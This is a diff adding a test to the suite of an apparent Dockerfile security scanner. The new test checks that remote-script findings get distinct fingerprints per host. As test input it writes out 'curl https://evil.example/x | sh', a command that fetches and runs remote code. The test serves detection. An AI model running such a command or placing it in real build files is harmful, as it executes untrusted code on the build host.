@@ -355,3 +355,13 @@ def test_a_source_of_packages_that_nobody_signs_is_found(check):
     assert ids(check({"Dockerfile": text})) == ["005"]
     signed = text.replace("trusted=yes", "signed-by=/etc/x.gpg")
     assert ids(check({"Dockerfile": signed})) == []
+
+
+def test_another_here_document_is_another_finding(check):
+    prints = set()
+    for host in ("good.example", "evil.example"):
+        text = image(f"RUN <<E\ncurl https://{host}/x | sh\nE")
+        found = check({"Dockerfile": text}).findings
+        prints |= {f.fingerprint for f in found if f.id == "MCP-CON-004"}
+
+    assert len(prints) == 2
